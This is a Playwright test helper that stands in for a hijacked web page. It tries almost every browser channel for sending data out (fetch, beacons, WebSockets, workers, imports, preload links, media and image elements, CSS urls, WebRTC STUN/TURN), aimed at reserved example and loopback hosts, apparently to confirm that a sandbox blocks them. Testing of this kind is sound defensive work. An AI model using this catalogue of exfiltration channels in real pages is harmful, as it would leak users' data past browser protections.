import type { Page } from '@playwright/test'

/**
 * What a page that has been taken over would try, to send something out: every way that a browser knows, to names,
 * to addresses of other machines and to this one.
 */
export async function tryTheNetwork(page: Page): Promise<void> {
  for (const host of ['example.org', '192.0.2.1', '[2001:db8::1]', '127.0.0.1:9']) {
    await page.evaluate(async (to) => {
      const http = `https://${to}/x`
      const ignore = () => undefined
      const attempt = (work: () => unknown) => {
        try {
          void Promise.resolve(work()).catch(ignore)
        } catch {
          // Refused at once: as it should be.
        }
      }
      const element = (name: string, attributes: Readonly<Record<string, string>>) => attempt(() => {
        const made = document.createElement(name)
        document.head.append(made)
        for (const [key, value] of Object.entries(attributes)) attempt(() => { made.setAttribute(key, value) })
      })
      attempt(() => fetch(http))
      attempt(() => fetch(`http://${to}/`, { mode: 'no-cors', method: 'POST', body: 'x' }))
      attempt(() => navigator.sendBeacon(http, 'x'))
      attempt(() => new WebSocket(`wss://${to}/`))
      attempt(() => new EventSource(http))
      attempt(() => new Worker(http))
      attempt(() => navigator.serviceWorker.register(http))
      attempt(() => import(http))
      attempt(() => new (globalThis as unknown as { WebTransport: new (url: string) => unknown }).WebTransport(http))
      attempt(() => new FontFace('x', `url(${http})`).load())
      attempt(() => new Audio(http).play())
      for (const rel of ['preload', 'prefetch', 'dns-prefetch', 'preconnect', 'stylesheet', 'icon', 'manifest', 'modulepreload', 'prerender']) element('link', { rel, href: http, as: 'image' })
      for (const name of ['img', 'script', 'iframe', 'video', 'source', 'embed', 'track', 'input']) element(name, { src: http, type: 'image' })
      element('object', { data: http })
      element('a', { href: http, ping: http })
      element('meta', { 'http-equiv': 'refresh', content: `0;url=${http}` })
      element('div', { style: `background:url(${http})` })
      attempt(async () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: [`stun:${to.replace(/:9$/u, '')}:3478`] }, { urls: [`turn:${to.replace(/:9$/u, '')}:3478`], username: 'x', credential: 'x' }] })
        peer.createDataChannel('x')
        await peer.setLocalDescription(await peer.createOffer())
      })
      await new Promise((settle) => { setTimeout(settle, 700) })
    }, host)
  }
}
